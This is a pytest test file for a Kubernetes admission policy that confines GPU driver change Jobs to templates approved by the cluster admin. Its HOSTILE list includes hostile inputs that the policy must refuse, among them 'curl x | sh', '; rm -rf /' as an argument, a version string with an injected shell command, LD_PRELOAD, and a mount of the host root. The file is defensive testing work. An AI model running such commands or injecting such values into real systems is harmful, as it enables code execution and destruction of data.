"""The ``gpuguard-change-jobs`` admission policy (docs/security.md#change-jobs): a declared
change's Job runs only as the cluster admin's approved template, privileged only when that
template says so, whatever the change's author writes in the change ConfigMap."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from gpuguard.actuators import jobs
from gpuguard.model import change
from tests import cel
from tests.admission import GPUGUARD, NODE, defaulted, pod_of, policy
from tests.admission import container as _c
from tests.admission import pod_spec as _pod

JOB_CONTROLLER = "system:serviceaccount:kube-system:job-controller"
TENANT = "system:serviceaccount:gpuguard:tenant-ci"
INSTALLER = "registry.example/ops/host-apt@sha256:" + "a" * 64
SCRIPT = ('nsenter -t 1 -m -u -i -n -p -- apt-get install -y '
          '"nvidia-driver-580=$GPUGUARD_DRIVER" && nsenter -t 1 -m -- shutdown -r +1\n')
ADMIN = {"data": {"host-apt.image": INSTALLER, "host-apt.script": SCRIPT,
                  "host-apt.privileged": "true",
                  "taint.image": "registry.example/ops/kubectl:1.31", "taint.script": "true\n"}}
Obj = dict[str, Any]
Mutation = Callable[[Obj], None]


def change_job(template: str = "host-apt", **env: str) -> Obj:
    """The Job the controller creates for a change applied by a Job (method job)."""
    approved = change.job_template(ADMIN["data"], template)
    return jobs.change_job(NODE, "drv-580", "boot-1", approved, deadline_s=7200,
                           env={"GPUGUARD_CHANGE": "drv-580", "GPUGUARD_DRIVER": "580.159.03",
                                **env})


def refused(obj: Obj, username: str = GPUGUARD, params: Obj | None = ADMIN) -> list[str]:
    return cel.rule_names(cel.refusals(policy("gpuguard-change-jobs"), obj, username=username,
                                       params=params))


@pytest.mark.parametrize("template", ["host-apt", "taint"])
def test_the_admins_templates_their_defaulted_form_and_their_pods_are_admitted(
    template: str,
) -> None:
    job = change_job(template)
    assert refused(job) == []
    assert refused(defaulted(job)) == []
    assert refused(pod_of(job), JOB_CONTROLLER) == []
    assert cel.refusals(policy("gpuguard-namespace"), pod_of(job), username=JOB_CONTROLLER) == []
    # gpuguard's own Jobs' policy leaves it to this one (it would refuse the admin's image)
    assert cel.refusals(policy("gpuguard-jobs"), job, username=GPUGUARD) is None


def test_only_a_template_the_admin_marked_privileged_runs_privileged() -> None:
    privileged = change_job("host-apt")
    assert privileged["spec"]["template"]["spec"]["hostPID"] is True
    assert privileged["spec"]["template"]["spec"]["containers"][0]["securityContext"][
        "privileged"] is True
    unprivileged = change_job("taint")
    assert unprivileged["spec"]["template"]["spec"]["hostPID"] is False
    made_privileged = copy.deepcopy(unprivileged)
    _c(made_privileged)["securityContext"] = {"privileged": True}
    _pod(made_privileged)["hostPID"] = True
    assert refused(made_privileged) == ["privileges"]


def _label(job: Obj, key: str, value: str) -> None:
    job["metadata"]["labels"][key] = value
    job["spec"]["template"]["metadata"]["labels"][key] = value


HOSTILE: list[tuple[str, str, Mutation]] = [
    ("own-image", "image", lambda j: _c(j).update(image="attacker/root-shell:latest")),
    ("own-script", "command", lambda j: _c(j).update(command=["/bin/sh", "-c", "curl x | sh"])),
    ("args-after-script", "command", lambda j: _c(j).update(args=["; rm -rf /"])),
    ("shell-in-a-version", "env", lambda j: _c(j)["env"].append(
        {"name": "GPUGUARD_KERNEL", "value": "6.8.0-60; curl x|sh"})),
    ("other-env", "env", lambda j: _c(j)["env"].append({"name": "LD_PRELOAD", "value": "x.so"})),
    ("host-network", "host", lambda j: _pod(j).update(hostNetwork=True)),
    ("host-root", "host", lambda j: _pod(j).update(
        volumes=[{"name": "root", "hostPath": {"path": "/"}}])),
    ("api-token", "service-account", lambda j: _pod(j).update(automountServiceAccountToken=True)),
    ("other-node", "node", lambda j: _pod(j).update(nodeName="control-plane-0")),
    ("sidecar", "one-container", lambda j: _pod(j)["containers"].append(dict(_c(j)))),
    ("retried", "job", lambda j: j["spec"].update(backoffLimit=6)),
    ("unconfined", "pod-fields", lambda j: _pod(j).update(
        securityContext={"seccompProfile": {"type": "Unconfined"}})),
]


@pytest.mark.parametrize(("name", "rule", "mutate"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_anything_but_the_admins_template_is_refused_by_its_rule(
    name: str, rule: str, mutate: Mutation,
) -> None:
    job = change_job("taint" if rule == "host" else "host-apt")
    mutate(job)
    assert refused(job) == [rule]


def test_a_template_the_admin_did_not_approve_gets_nothing_not_even_privileges() -> None:
    job = change_job()
    _label(job, change.TEMPLATE_LABEL, "my-own")
    assert refused(job) == ["template", "image", "command", "privileges"]


def test_nobody_but_gpuguard_creates_change_jobs_and_only_the_job_controller_their_pods() -> None:
    job = change_job()
    assert refused(job, TENANT) == ["creator"]
    assert refused(pod_of(job), TENANT) == ["creator"]  # the admin's script on a node of choice
    assert refused(pod_of(job), GPUGUARD) == ["creator"]


def test_without_the_admins_configmap_every_change_job_is_refused() -> None:
    assert "template" in refused(change_job(), params={"data": {}})
    assert "template" in refused(change_job(), params=None)
